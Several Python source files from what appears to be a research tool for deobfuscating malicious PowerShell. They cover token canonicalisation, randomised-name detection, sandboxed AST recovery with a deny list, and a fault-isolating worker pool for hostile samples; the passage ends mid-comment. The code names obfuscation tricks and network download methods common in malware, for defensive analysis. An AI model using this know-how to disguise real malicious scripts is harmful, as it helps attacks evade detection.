        if key is not None:
            memo.put(key, ok, value, outcome.reason, outcome.steps)
        return ok, value, outcome

    def _evaluate_uncached(
        self,
        piece: str,
        variables: Optional[Dict[str, Any]] = None,
        env_overrides: Optional[Dict[str, str]] = None,
        function_defs: Optional[Dict[str, str]] = None,
    ) -> Tuple[bool, Any, RecoveryOutcome]:
        """Actually run *piece* in a fresh sandbox.

        ``function_defs`` maps function names to their definition text;
        each is executed first (which merely registers the function), so
        pieces that *call* user functions can be recovered — the optional
        extension past the paper's Section V-C limitation.
        """
        if len(piece) > MAX_PIECE_LENGTH:
            return False, None, RecoveryOutcome(None, "unsupported")
        evaluator = self.make_evaluator(variables)
        if env_overrides:
            evaluator.env_overrides.update(env_overrides)
        for definition in (function_defs or {}).values():
            try:
                evaluator.run_script_text(definition)
            except EvaluationError:
                continue  # unparseable definition: skip it
        try:
            try:
                outputs = evaluator.run_script_text(piece)
            except StepLimitError:
                return False, None, RecoveryOutcome(
                    None, "step_limit", steps=evaluator.budget.steps
                )
            except BlockedCommandError:
                return False, None, RecoveryOutcome(
                    None, "blocked", steps=evaluator.budget.steps
                )
            except EvaluationError:
                return False, None, RecoveryOutcome(
                    None, "unsupported", steps=evaluator.budget.steps
                )
            except RecursionError:  # pragma: no cover - defensive
                return False, None, RecoveryOutcome(None, "unsupported")
        finally:
            if self.audit is not None:
                self.audit.add_budget(evaluator.budget)
        from repro.runtime.values import unwrap_single

        value = unwrap_single(outputs)
        return True, value, RecoveryOutcome(
            None, "recovered", steps=evaluator.budget.steps
        )

    def make_evaluator(self, variables=None) -> Evaluator:
        """A fresh sandbox evaluator under this engine's policy/audit.

        Used for piece recovery here and for assignment right-hand
        sides by variable tracing, so every evaluation one pipeline
        run performs shares the same capability contract and audit.
        """
        policy = self.policy
        return Evaluator(
            host=SandboxHost.from_policy(policy, self.audit),
            budget=ExecutionBudget.from_policy(
                policy, step_limit=self.step_limit
            ),
            policy=policy,
            audit=self.audit,
            variables=dict(variables or {}),
        )

    def recover_piece_detailed(
        self,
        piece: str,
        variables: Optional[Dict[str, Any]] = None,
        env_overrides: Optional[Dict[str, str]] = None,
        function_defs: Optional[Dict[str, str]] = None,
    ) -> RecoveryOutcome:
        """Recover *piece* and say why it was (not) replaced."""
        ok, value, outcome = self._evaluate(
            piece, variables, env_overrides, function_defs
        )
        if not ok:
            _narrate_outcome(piece, outcome)
            return outcome
        text = stringify_result(value)
        if text is None:
            outcome.reason = "not_stringifiable"
            _narrate_outcome(piece, outcome)
            return outcome
        outcome.text = text
        return outcome

    def recover_piece(
        self,
        piece: str,
        variables: Optional[Dict[str, Any]] = None,
        env_overrides: Optional[Dict[str, str]] = None,
        function_defs: Optional[Dict[str, str]] = None,
    ) -> Optional[str]:
        """The recovery result text for *piece*, or None to keep it."""
        return self.recover_piece_detailed(
            piece, variables, env_overrides, function_defs
        ).text
