"""Phase 1 — token parsing (paper Section III-A).

Works on the flat ``PSParser``-style token list and fixes L1 obfuscation:

- **ticking**: ``nE`w-oBjE`Ct`` — backticks vanish when the token content
  is re-emitted;
- **alias**: ``IeX`` → ``Invoke-Expression``;
- **random case**: ``DoWNlOaDsTrIng`` → canonical casing for known
  commands/keywords/types, lowercase for operators.

Tokens are replaced in *reverse source order* so earlier token offsets
stay valid without re-tokenizing (the paper makes the same observation).
Each rewrite is verified to keep the script tokenizable; a failing rewrite
is rolled back, mirroring the paper's per-step syntax check.
"""

from typing import List, Optional

from repro.pslang.aliases import canonical_case, resolve_alias
from repro.pslang.tokenizer import try_tokenize
from repro.pslang.tokens import PSToken, PSTokenType

# Canonical casing for type literals commonly abused by random-case
# obfuscation.  Keys are lowercase type names (without brackets).
_CANONICAL_TYPES = {
    "char": "char",
    "string": "string",
    "int": "int",
    "byte": "byte",
    "convert": "Convert",
    "array": "array",
    "regex": "regex",
    "scriptblock": "scriptblock",
    "text.encoding": "Text.Encoding",
    "system.text.encoding": "System.Text.Encoding",
    "system.convert": "System.Convert",
    "io.memorystream": "IO.MemoryStream",
    "system.io.memorystream": "System.IO.MemoryStream",
    "io.compression.compressionmode": "IO.Compression.CompressionMode",
    "io.compression.deflatestream": "IO.Compression.DeflateStream",
    "runtime.interopservices.marshal": "Runtime.InteropServices.Marshal",
    "system.runtime.interopservices.marshal":
        "System.Runtime.InteropServices.Marshal",
}

_CANONICAL_MEMBERS = {
    name.lower(): name
    for name in [
        "DownloadString", "DownloadFile", "DownloadData", "UploadString",
        "Replace", "Split", "Substring", "ToCharArray", "ToString",
        "ToUpper", "ToLower", "Trim", "TrimStart", "TrimEnd", "Invoke",
        "GetString", "GetBytes", "FromBase64String", "ToBase64String",
        "ToInt32", "ToInt16", "ToInt64", "ToChar", "Join", "Format",
        "Concat", "Reverse", "GetEnumerator", "ReadToEnd",
        "PtrToStringAuto", "SecureStringToBSTR", "StartsWith", "EndsWith",
        "Contains", "IndexOf", "PadLeft", "PadRight", "Create", "Length",
        "Count",
    ]
}


def _rewrite_token(token: PSToken) -> Optional[str]:
    """New raw text for *token*, or None to keep it unchanged."""
    if token.type is PSTokenType.COMMAND:
        alias = resolve_alias(token.content)
        if alias is not None:
            return alias
        cased = canonical_case(token.content)
        if cased is not None and cased != token.text:
            return cased
        if "`" in token.text:
            return token.content
        return None
    if token.type is PSTokenType.KEYWORD:
        lowered = token.content.lower()
        if token.text != lowered:
            return lowered
        return None
    if token.type is PSTokenType.TYPE:
        canonical = _CANONICAL_TYPES.get(token.content.lower())
        if canonical is None:
            # Unknown type: strip ticks only.
            if "`" in token.text:
                return "[" + token.content + "]"
            return None
        rewritten = "[" + canonical + "]"
        if rewritten != token.text:
            return rewritten
        return None
    if token.type is PSTokenType.MEMBER:
        canonical = _CANONICAL_MEMBERS.get(token.content.lower())
        if canonical is not None and canonical != token.text:
            return canonical
        if "`" in token.text:
            return token.content
        return None
    if token.type is PSTokenType.OPERATOR:
        # Dash operators: canonical lowercase, unicode dashes folded.
        if token.text.lower() != token.content and token.content.startswith(
            "-"
        ):
            return token.content
        return None
    if token.type is PSTokenType.COMMAND_PARAMETER:
        if "`" in token.text or any(
            ch in token.text for ch in "–—―"
        ):
            return token.content
        return None
    if token.type in (
        PSTokenType.COMMAND_ARGUMENT,
        PSTokenType.VARIABLE,
    ):
        if "`" in token.text:
            # Remove meaningless ticks from barewords; variables keep
            # their sigil/braces so only the bareword case applies.
            if token.type is PSTokenType.COMMAND_ARGUMENT:
                return token.content
        return None
    return None


def deobfuscate_tokens(script: str, stats=None) -> str:
    """Run the token-parsing phase over *script*.

    Returns the rewritten script; if the script cannot be tokenized it is
    returned unchanged (the paper skips steps that would break syntax).
    When *stats* (a :class:`repro.obs.PipelineStats`) is given, every
    applied rewrite increments its ``tokens_rewritten`` counter.

    All rewrites are applied in one reverse-order batch and validated
    once; only when the batch breaks the syntax does the per-token
    validate-and-roll-back path run (avoiding a quadratic re-tokenize on
    scripts with thousands of rewritable tokens).
    """
    tokens, error = try_tokenize(script)
    if tokens is None:
        return script
    rewrites = []
    for token in tokens:
        replacement = _rewrite_token(token)
        if replacement is not None and replacement != token.text:
            rewrites.append((token, replacement))
    if not rewrites:
        return script

    batched = script
    for token, replacement in reversed(rewrites):
        batched = (
            batched[:token.start] + replacement + batched[token.end:]
        )
    validated, _ = try_tokenize(batched)
    if validated is not None:
        if stats is not None:
            stats.tokens_rewritten += len(rewrites)
        return batched

    # Rare fallback: some rewrite broke the syntax — validate one by one.
    result = script
    for token, replacement in reversed(rewrites):
        candidate = (
            result[:token.start] + replacement + result[token.end:]
        )
        fixed_tokens, _fix_error = try_tokenize(candidate)
        if fixed_tokens is None:
            continue  # roll back a rewrite that broke the syntax
        result = candidate
        if stats is not None:
            stats.tokens_rewritten += 1
    return result


def token_obfuscation_present(script: str) -> bool:
    """Quick check used by scoring: does phase 1 have anything to do?"""
    tokens, _ = try_tokenize(script)
    if tokens is None:
        return False
    return any(
        _rewrite_token(token) not in (None, token.text) for token in tokens
    )
