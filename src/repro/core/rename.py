"""Renaming randomized identifiers (paper Section III-C).

Whether names are randomized is decided *statistically over all unique
variable and function names concatenated*: the General-American-English
vowel proportion is ~37.4% (Hayden, 1950), so a vowel share outside
[32%, 42%] of the English letters flags randomness; a string whose
English-letter share is below 10% is flagged too.  Random names are
replaced with ``var{num}`` / ``func{num}`` in order of first appearance.
"""

import re
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.pslang import ast_nodes as N
from repro.pslang.parser import try_parse_cached as try_parse
from repro.runtime.environment import is_automatic

VOWELS = set("aeiouAEIOU")
VOWEL_LOW, VOWEL_HIGH = 0.32, 0.42
MIN_LETTER_PROPORTION = 0.10

# Names never renamed: automatic variables and pipeline plumbing.
_PROTECTED = {"_", "args", "input", "this", "matches", "error", "lastexitcode"}


def vowel_proportion(text: str) -> Optional[float]:
    letters = [ch for ch in text if ch.isascii() and ch.isalpha()]
    if not letters:
        return None
    vowels = sum(1 for ch in letters if ch in VOWELS)
    return vowels / len(letters)


def letter_proportion(text: str) -> float:
    if not text:
        return 0.0
    letters = sum(1 for ch in text if ch.isascii() and ch.isalpha())
    return letters / len(text)


def names_look_random(names: List[str]) -> bool:
    """The paper's whole-string randomness test."""
    whole = "".join(names)
    if not whole:
        return False
    if letter_proportion(whole) < MIN_LETTER_PROPORTION:
        return True
    vowels = vowel_proportion(whole)
    if vowels is None:
        return True
    return not (VOWEL_LOW <= vowels <= VOWEL_HIGH)


@dataclass
class RenamePlan:
    variables: Dict[str, str] = field(default_factory=dict)
    functions: Dict[str, str] = field(default_factory=dict)

    @property
    def empty(self) -> bool:
        return not self.variables and not self.functions


def _collect_names(ast: N.ScriptBlockAst) -> Tuple[List[str], List[str]]:
    """Unique variable and function names in order of first appearance."""
    variables: List[str] = []
    seen_vars = set()
    functions: List[str] = []
    seen_funcs = set()
    for node in ast.walk_pre_order():
        if isinstance(node, N.VariableExpressionAst):
            name = node.name
            if ":" in name:
                continue  # env:/scope-qualified
            lowered = name.lower()
            if lowered in _PROTECTED or is_automatic(name):
                continue
            if lowered not in seen_vars:
                seen_vars.add(lowered)
                variables.append(name)
        elif isinstance(node, N.FunctionDefinitionAst):
            lowered = node.name.lower()
            if lowered not in seen_funcs:
                seen_funcs.add(lowered)
                functions.append(node.name)
    return variables, functions


def build_rename_plan(script: str) -> RenamePlan:
    ast, _ = try_parse(script)
    if ast is None:
        return RenamePlan()
    variables, functions = _collect_names(ast)
    if not names_look_random(variables + functions):
        return RenamePlan()
    plan = RenamePlan()
    for index, name in enumerate(variables):
        plan.variables[name.lower()] = f"var{index}"
    for index, name in enumerate(functions):
        plan.functions[name.lower()] = f"func{index}"
    return plan


def apply_rename(script: str, plan: RenamePlan) -> str:
    """Rewrite identifiers per *plan* using AST extents (reverse order)."""
    if plan.empty:
        return script
    ast, _ = try_parse(script)
    if ast is None:
        return script
    replacements: List[Tuple[int, int, str]] = []
    for node in ast.walk_pre_order():
        if isinstance(node, N.VariableExpressionAst):
            new_name = plan.variables.get(node.name.lower())
            if new_name is not None:
                sigil = "@" if node.splatted else "$"
                replacements.append(
                    (node.start, node.end, sigil + new_name)
                )
        elif isinstance(node, N.FunctionDefinitionAst):
            new_name = plan.functions.get(node.name.lower())
            if new_name is not None:
                # Rewrite just the name inside the definition.
                text = script[node.start:node.end]
                match = re.search(
                    re.escape(node.name), text, re.IGNORECASE
                )
                if match:
                    replacements.append(
                        (
                            node.start + match.start(),
                            node.start + match.end(),
                            new_name,
                        )
                    )
        elif isinstance(node, N.CommandAst):
            if node.elements and isinstance(
                node.elements[0], N.StringConstantExpressionAst
            ):
                head = node.elements[0]
                new_name = plan.functions.get(head.value.lower())
                if new_name is not None and head.quote == "":
                    replacements.append((head.start, head.end, new_name))
    result = script
    for start, end, text in sorted(replacements, reverse=True):
        result = result[:start] + text + result[end:]
    validated, _ = try_parse(result)
    if validated is None:
        return script
    return result


def rename_random_identifiers(script: str) -> str:
    """The full Section III-C renaming step."""
    return apply_rename(script, build_rename_plan(script))
