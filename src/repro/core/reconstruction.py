"""Recovery based on AST with in-place replacement (Sections III-B1..B5).

One post-order walk does all three jobs of the paper's Algorithm 1:

1. **variable tracing** — ``AssignmentStatementAst`` nodes evaluate their
   (already child-recovered) right-hand side and record the value/scope in
   the symbol table; assignments in loops/conditionals or with unknown
   variables are abandoned;
2. **use-site substitution** — ``VariableExpressionAst`` uses are replaced
   with their traced value when it is a string or number and scopes match;
3. **recovery** — every *recoverable node* (PipelineAst, Unary/Binary/
   Convert/InvokeMember/SubExpression) is executed via the sandbox and,
   when the result has a string form, replaced in place.

Because children are processed first, a parent's piece text already
contains its children's recovery results — the paper's Fig 4 bottom-up
content update.  Because each node's replacement lands exactly on its own
source extent, identical pieces in different contexts stay independent,
which is the semantics-preserving property the baselines lack.
"""

from typing import Dict, List, Optional

from repro.pslang import ast_nodes as N
from repro.pslang.parser import try_parse
from repro.pslang.visitor import scope_path
from repro.core.recovery import (
    RecoveryEngine,
    RecoveryOutcome,
    quote_single,
    stringify_result,
)
from repro.obs import PipelineStats
from repro.core.tracing import (
    SymbolTable,
    assignment_is_traceable,
    is_recordable_value,
    use_is_substitutable_position,
)
from repro.runtime.environment import is_automatic, split_scope_prefix
from repro.runtime.errors import EvaluationError


def _splice(base: str, base_start: int, pieces) -> str:
    """Replace child extents inside *base* (offsets relative to source)."""
    out: List[str] = []
    cursor = 0
    for start, end, text in pieces:
        rel_start, rel_end = start - base_start, end - base_start
        if rel_start < cursor:
            continue  # overlapping child (defensive; should not happen)
        out.append(base[cursor:rel_start])
        out.append(text)
        cursor = rel_end
    out.append(base[cursor:])
    return "".join(out)


class AstDeobfuscator:
    """One pass of AST-based recovery over a script."""

    def __init__(
        self,
        recovery: Optional[RecoveryEngine] = None,
        trace_variables: bool = True,
        trace_functions: bool = False,
        stats: Optional[PipelineStats] = None,
    ):
        self.recovery = recovery or RecoveryEngine()
        self.trace_variables = trace_variables
        # Extension beyond the paper (its Section V-C limitation): make
        # user-defined functions callable during piece recovery.
        self.trace_functions = trace_functions
        # Counters accumulate into the caller's record when one is
        # passed (the pipeline shares one PipelineStats across phases
        # and iterations); standalone use gets a private record.
        self.stats = stats if stats is not None else PipelineStats()
        self.symbols = SymbolTable()
        self.source = ""
        # id(node) -> subtree contains a blocklisted command/method.
        self._blocked_subtree: Dict[int, bool] = {}
        # Memo for variable-free pieces (state-independent).
        self._recover_cache: Dict[str, RecoveryOutcome] = {}

    def process(self, script: str) -> str:
        """Return the recovered script (or *script* when not parseable)."""
        ast, error = try_parse(script)
        if ast is None:
            return script
        self.source = script
        self.symbols = SymbolTable()
        self._recover_cache = {}
        self._mark_blocked_subtrees(ast)
        result = self._process(ast)
        validated, _ = try_parse(result)
        if validated is None:
            # The paper skips any step that breaks syntax.
            return script
        return result

    def _mark_blocked_subtrees(self, root: N.Ast) -> None:
        """Precompute which subtrees mention a policy-denied command/method.

        The paper's speed-up: "If recoverable pieces contain these
        irrelevant commands, we do not execute them."  Checking the AST
        (not raw text) keeps encoded *data* from triggering the skip.
        The denied-name sets come from the recovery engine's
        :class:`~repro.policy.SandboxPolicy`, so per-policy deny lists
        prefilter exactly like the built-in blocklist.
        """
        from repro.pslang.aliases import resolve_alias

        policy = self.recovery.policy
        if not policy.prefilters:
            for node in root.walk_post_order():
                self._blocked_subtree[id(node)] = False
            return
        for node in root.walk_post_order():
            blocked = any(
                self._blocked_subtree.get(id(child), False)
                for child in node.children()
            )
            if not blocked and isinstance(node, N.CommandAst):
                if node.elements and isinstance(
                    node.elements[0], N.StringConstantExpressionAst
                ):
                    name = node.elements[0].value
                    resolved = resolve_alias(name.lower()) or name
                    blocked = (
                        policy.is_denied("command", resolved) is not None
                    )
            if not blocked and isinstance(
                node, N.InvokeMemberExpressionAst
            ) and isinstance(node.member, N.StringConstantExpressionAst):
                blocked = (
                    policy.is_denied("member", node.member.value) is not None
                )
            self._blocked_subtree[id(node)] = blocked

    # -- the post-order engine ------------------------------------------------

    def _process(self, node: N.Ast) -> str:
        children = sorted(node.children(), key=lambda c: c.start)
        pieces = []
        for child in children:
            text = self._process(child)
            pieces.append((child.start, child.end, text))
        current = _splice(
            self.source[node.start:node.end], node.start, pieces
        )

        if isinstance(node, N.VariableExpressionAst):
            substituted = self._substitute_use(node, current)
            if substituted is not None:
                return substituted
            return current

        if isinstance(node, N.AssignmentStatementAst):
            if self.trace_variables:
                self._trace_assignment(node, current)
            return current

        if isinstance(node, N.FunctionDefinitionAst):
            if self.trace_functions and not self._blocked_subtree.get(
                id(node), False
            ):
                self.symbols.function_defs[node.name.lower()] = current
            return current

        if isinstance(node, N.RECOVERABLE_NODE_TYPES):
            recovered = self._recover(node, current)
            if recovered is not None:
                return recovered
        return current

    # -- variable tracing -------------------------------------------------------

    def _assignment_target_name(
        self, node: N.AssignmentStatementAst
    ) -> Optional[str]:
        target = node.left
        if isinstance(target, N.ConvertExpressionAst):
            target = target.child
        if isinstance(target, N.VariableExpressionAst):
            return target.name
        return None

    def _trace_assignment(
        self, node: N.AssignmentStatementAst, current_text: str
    ) -> None:
        name = self._assignment_target_name(node)
        if name is None:
            return
        prefix, bare = split_scope_prefix(name)
        if prefix == "env":
            self._trace_env_assignment(bare, node, current_text)
            return
        if prefix is not None and prefix not in (
            "global", "script", "local", "private",
        ):
            return
        key = bare if prefix else name
        if not assignment_is_traceable(node):
            self.symbols.remove(key)
            return
        value, ok = self._evaluate_assignment(current_text, key)
        if not ok or not is_recordable_value(value):
            self.symbols.remove(key)
            return
        self.symbols.record(key, value, scope_path(node))
        self.stats.variables_traced += 1

    def _trace_env_assignment(
        self, bare_name: str, node: N.AssignmentStatementAst, text: str
    ) -> None:
        if not assignment_is_traceable(node):
            self.symbols.env_overrides.pop(bare_name.lower(), None)
            return
        value, ok = self._evaluate_assignment(text, f"env:{bare_name}")
        if ok and isinstance(value, str):
            self.symbols.record_env(bare_name, value)
        else:
            self.symbols.env_overrides.pop(bare_name.lower(), None)

    def _evaluate_assignment(self, statement_text: str, name: str):
        """Execute the whole assignment and read the variable back."""
        evaluator = self.recovery.make_evaluator(
            self.symbols.values_for_evaluator()
        )
        evaluator.env_overrides.update(self.symbols.env_overrides)
        for definition in self.symbols.function_defs.values():
            try:
                evaluator.run_script_text(definition)
            except EvaluationError:
                continue
        try:
            evaluator.run_script_text(statement_text)
            return evaluator.lookup_variable(name), True
        except EvaluationError:
            return None, False
        except RecursionError:  # pragma: no cover - defensive
            return None, False
        finally:
            self.stats.evaluator_steps += evaluator.budget.steps
            if self.recovery.audit is not None:
                self.recovery.audit.add_budget(evaluator.budget)

    def _substitute_use(
        self, node: N.VariableExpressionAst, current: str
    ) -> Optional[str]:
        if not self.trace_variables:
            return None
        prefix, bare = split_scope_prefix(node.name)
        if prefix is not None:
            return None  # env:/scoped names are left to the evaluator
        if is_automatic(node.name) or node.name in ("_", "$", "?", "^"):
            return None
        if not use_is_substitutable_position(node):
            return None
        value = self.symbols.substitutable(node.name, scope_path(node))
        if value is None:
            self.stats.trace_misses += 1
            return None
        self.stats.trace_hits += 1
        rendered = stringify_result(value)
        if rendered is None:
            return None
        self.stats.variables_substituted += 1
        return rendered

    # -- recovery ------------------------------------------------------------------

    _LITERAL_PREFIXES = ("'", '"')

    def _recover(self, node: N.Ast, current: str) -> Optional[str]:
        stripped = current.strip()
        if not stripped:
            return None
        # Nothing to recover in a bare literal.
        if self._is_plain_literal(stripped):
            return None
        # The paper's blocklist skip: pieces mentioning irrelevant or
        # dangerous commands are never executed.
        if self._blocked_subtree.get(id(node), False):
            self.stats.recovery_outcomes["blocked"] += 1
            return None
        # Interior nodes of a homogeneous '+' chain are subsumed by the
        # chain's outermost node; evaluating every prefix of a long
        # chunked-blob concatenation would be quadratic.
        if (
            isinstance(node, N.BinaryExpressionAst)
            and node.operator == "+"
            and isinstance(node.parent, N.BinaryExpressionAst)
            and node.parent.operator == "+"
        ):
            return None
        # The memo key is the text alone, so it is only safe for pieces
        # whose result cannot depend on evolving state (variables or, when
        # function tracing is on, user function definitions).
        cacheable = "$" not in current and not self.symbols.function_defs
        if cacheable and current in self._recover_cache:
            outcome = self._recover_cache[current]
            # A cached answer re-counts its reason (the piece was seen
            # again) but not its steps (the sandbox did not run again).
            self.stats.recovery_cache_hits += 1
            self.stats.recovery_outcomes[outcome.reason] += 1
        else:
            outcome = self.recovery.recover_piece_detailed(
                current,
                variables=self.symbols.values_for_evaluator(),
                env_overrides=self.symbols.env_overrides,
                function_defs=self.symbols.function_defs,
            )
            self.stats.recovery_outcomes[outcome.reason] += 1
            self.stats.evaluator_steps += outcome.steps
            if cacheable:
                self._recover_cache[current] = outcome
        recovered = outcome.text
        if recovered is None or recovered == current:
            return None
        self.stats.pieces_recovered += 1
        return recovered

    @staticmethod
    def _is_plain_literal(text: str) -> bool:
        if text.startswith("'") and text.endswith("'") and len(text) >= 2:
            inner = text[1:-1]
            return "'" not in inner.replace("''", "")
        if text and (text[0].isdigit() or text[0] == "-"):
            candidate = text.lstrip("-")
            return candidate.replace(".", "", 1).isdigit()
        return False
