"""Small shared caching primitives.

:class:`SaltedLRUCache` is the bounded, salt-keyed LRU used by every
process-wide read-only cache that could otherwise be shared between
language front ends: the PowerShell parse cache
(:mod:`repro.pslang.parser`), the technique-detector script views
(:mod:`repro.scoring.detectors`), and the JavaScript parse cache
(:mod:`repro.frontend.js.parser`).

Why a salt at all: these caches key on *source text*, and two front
ends can absolutely be handed the same text (an ``eval`` payload that
is valid in both grammars, a one-liner like ``x=1``).  Keying each
entry by ``(salt, source)`` — where the salt is the front-end id —
makes a cross-language replay of the wrong AST structurally
impossible, rather than merely unlikely.
"""

from collections import OrderedDict
from typing import Any, Callable, Optional, Tuple

DEFAULT_MAX_ENTRIES = 1024
# Large sources are both unlikely to repeat and expensive to retain.
DEFAULT_MAX_CHARS = 32_768


class SaltedLRUCache:
    """A bounded LRU keyed by ``(salt, source)``.

    ``salt`` is typically a front-end id (``"powershell"``, ``"js"``).
    Values are shared across callers and must be treated as read-only.
    """

    __slots__ = ("max_entries", "max_chars", "hits", "misses", "_entries")

    def __init__(
        self,
        max_entries: int = DEFAULT_MAX_ENTRIES,
        max_chars: int = DEFAULT_MAX_CHARS,
    ):
        self.max_entries = max_entries
        self.max_chars = max_chars
        self.hits = 0
        self.misses = 0
        self._entries: "OrderedDict[Tuple[str, str], Any]" = OrderedDict()

    def __len__(self) -> int:
        return len(self._entries)

    def get(self, salt: str, source: str) -> Optional[Any]:
        key = (salt, source)
        value = self._entries.get(key)
        if value is not None:
            self._entries.move_to_end(key)
            self.hits += 1
            return value
        self.misses += 1
        return None

    def put(self, salt: str, source: str, value: Any) -> None:
        if len(source) > self.max_chars:
            return
        key = (salt, source)
        if key in self._entries:
            self._entries.move_to_end(key)
        self._entries[key] = value
        while len(self._entries) > self.max_entries:
            self._entries.popitem(last=False)

    def get_or_build(
        self, salt: str, source: str, build: Callable[[str], Any]
    ) -> Any:
        """Cached value for ``(salt, source)``, building (and storing)
        on a miss.  Build errors are not cached — they re-raise on
        every call."""
        value = self.get(salt, source)
        if value is None:
            value = build(source)
            self.put(salt, source, value)
        return value

    def clear(self) -> None:
        self._entries.clear()
