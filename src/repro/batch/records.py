"""Typed views over the batch layer's wire formats.

The pool and the JSONL file keep trafficking in plain dicts (they are
what crosses process and filesystem boundaries), but consumers get
typed, versioned dataclasses: :class:`SampleRecord` for one JSONL line
and :class:`BatchSummary` for a whole run's aggregate.  Both round-trip
losslessly through ``to_dict()``/``from_dict()``; the record shape is
pinned by ``RECORD_SCHEMA_VERSION`` and a golden-file test.
"""

from dataclasses import dataclass, field, fields
from typing import Any, Dict, Iterable, Optional

from repro.obs import PipelineStats

# Version 1 is PR 1's implicit, unversioned record shape; version 2
# adds this field plus the embedded PipelineStats telemetry; version 3
# adds the optional ``verify`` verdict of ``--verify`` runs; version 4
# adds the optional ``trace_id``/``trace_spans`` of traced runs and the
# embedded stats' ``techniques`` tags (STATS_SCHEMA_VERSION 3).
RECORD_SCHEMA_VERSION = 4


@dataclass
class SampleRecord:
    """One JSONL line of a batch run, typed.

    Optional fields are None when the producing status does not emit
    them (an ``error`` record has no measurements; a hard-killed
    ``timeout`` record has no stats).  ``to_dict()`` drops None fields
    so the wire format stays exactly what the worker wrote.
    """

    path: str
    status: str
    schema_version: int = RECORD_SCHEMA_VERSION
    sha256: Optional[str] = None
    size_bytes: Optional[int] = None
    elapsed_seconds: Optional[float] = None
    iterations: Optional[int] = None
    layers_unwrapped: Optional[int] = None
    changed: Optional[bool] = None
    stats: Optional[PipelineStats] = None
    verify: Optional[Dict[str, Any]] = None
    script: Optional[str] = None
    graceful: Optional[bool] = None
    error: Optional[str] = None
    attempts: Optional[int] = None
    cache_hit: Optional[bool] = None
    trace_id: Optional[str] = None
    trace_spans: Optional[list] = None

    def to_dict(self) -> Dict[str, Any]:
        data: Dict[str, Any] = {}
        for item in fields(self):
            value = getattr(self, item.name)
            if value is None:
                continue
            if item.name == "stats":
                value = value.to_dict()
            data[item.name] = value
        return data

    @classmethod
    def from_dict(cls, data: Dict[str, Any]) -> "SampleRecord":
        known = {item.name for item in fields(cls)}
        kwargs = {k: v for k, v in data.items() if k in known}
        kwargs.setdefault("schema_version", 1)  # pre-versioned record
        if isinstance(kwargs.get("stats"), dict):
            kwargs["stats"] = PipelineStats.from_dict(kwargs["stats"])
        return cls(**kwargs)


@dataclass
class BatchSummary:
    """A whole run's aggregate, typed (see :func:`repro.batch.summarize`).

    ``phase_seconds`` maps each pipeline phase to its per-sample
    latency distribution (``mean``/``p50``/``p95``/``total``) across
    every record that carried span telemetry — the corpus-level Fig 6
    per-phase view.
    """

    total: int = 0
    status_counts: Dict[str, int] = field(default_factory=dict)
    layers_unwrapped: int = 0
    changed: int = 0
    latency_mean_seconds: float = 0.0
    latency_p50_seconds: float = 0.0
    latency_p95_seconds: float = 0.0
    latency_max_seconds: float = 0.0
    phase_seconds: Dict[str, Dict[str, float]] = field(default_factory=dict)
    recovery_outcomes: Dict[str, int] = field(default_factory=dict)
    unwrap_kinds: Dict[str, int] = field(default_factory=dict)
    techniques: Dict[str, int] = field(default_factory=dict)
    cache_hits: int = 0
    verify: Optional[Dict[str, int]] = None
    worker_restarts: Optional[Dict[str, int]] = None
    wall_seconds: Optional[float] = None
    throughput_scripts_per_second: Optional[float] = None

    @classmethod
    def from_records(
        cls,
        records: Iterable[dict],
        wall_seconds: Optional[float] = None,
        worker_restarts: Optional[Dict[str, int]] = None,
    ) -> "BatchSummary":
        from repro.batch.summary import summarize

        return cls.from_dict(
            summarize(
                records,
                wall_seconds=wall_seconds,
                worker_restarts=worker_restarts,
            )
        )

    @classmethod
    def from_dict(cls, data: Dict[str, Any]) -> "BatchSummary":
        known = {item.name for item in fields(cls)}
        return cls(**{k: v for k, v in data.items() if k in known})

    def to_dict(self) -> Dict[str, Any]:
        data: Dict[str, Any] = {}
        for item in fields(self):
            value = getattr(self, item.name)
            if value is None:
                continue
            data[item.name] = value
        return data
