"""The corpus-scale worker pool: fault containment for hostile inputs.

Wild PowerShell corpora (the paper's Section IV evaluation runs over
39,713 samples) contain scripts that hang, exhaust memory, or crash the
process that analyses them.  One bad sample must never take down a
corpus run, so every sample is deobfuscated inside a disposable worker
process and the parent enforces three guarantees:

timeout
    Each sample gets a wall-clock budget.  The worker first tries to
    finish gracefully (the pipeline's cooperative ``deadline_seconds``);
    if the process is still on the same sample ``kill_grace`` seconds
    past the budget, the parent SIGKILLs it, records ``timeout`` and
    respawns a fresh worker.

crash isolation
    A worker that dies (segfault, OOM kill, ``os._exit``) loses only the
    sample it was holding.  The parent notices the death, respawns the
    worker, and either retries the sample or records ``error``.

bounded retry
    A crashed sample is retried up to ``retries`` times (default 1) —
    crashes can be environmental — then recorded as ``error``.
    Timeouts are never retried: they are deterministic under a fixed
    budget.

The design is parent-authoritative: the parent assigns exactly one task
at a time to each worker over a dedicated :func:`multiprocessing.Pipe`
and starts that sample's clock at send time.  There is no shared task
queue, so the parent always knows which sample a dead worker held —
a worker that dies without ever reporting in cannot strand a sample
(the failure mode of queue-based pools, whose feeder threads can drop
in-flight messages when a process exits abruptly).

Two front ends share the same engine:

- :meth:`BatchPool.run` — the offline generator, yielding one record
  dict per sample *as each finishes* (completion order, not input
  order), which is what lets the CLI stream JSONL while the run is
  still going.  It shuts the fleet down when the task list is done.
- :meth:`BatchPool.submit` / :meth:`BatchPool.collect` — the
  interactive API ``repro.service`` is built on: tickets go in at any
  time, ``(ticket, record)`` pairs come out as they complete, and the
  worker fleet stays warm between submissions until :meth:`close`.

The pool is **not** thread-safe: exactly one thread must own
``submit``/``collect``/``run`` (the service wraps it in a dispatcher
thread for that reason).

Worker lifecycle is counted in :attr:`BatchPool.restarts` — crash
respawns vs timeout kills — so flapping workers show up in batch
summaries and in the service's ``/metrics`` instead of being invisible.

Known race, by design: if a worker finishes a sample in the instant
between the parent's last poll and a timeout kill, the sample is
recorded ``timeout`` and the late result is discarded — the parent
never double-records a sample.
"""

import itertools
import multiprocessing
import os
import pickle
import time
from collections import deque
from multiprocessing.connection import wait as _connection_wait
from typing import Deque, Dict, Iterable, Iterator, List, Optional, Tuple

from repro.batch.task import (
    DEFAULT_WORKER_SPEC,
    Task,
    error_record,
    exception_record,
    resolve_worker,
)
from repro.obs.log import get_logger

_POLL_SECONDS = 0.05

_log = get_logger("batch.pool")

# Keys of :attr:`BatchPool.restarts`, the worker-lifecycle counters.
RESTART_REASONS = ("crash", "timeout")

# Listening sockets owned by the HTTP front ends.  Workers are forked
# on demand, so whichever listeners happen to be open at that moment
# are copied into the child's FD table — and the kernel then keeps the
# port accepting connections even after the owning server closes its
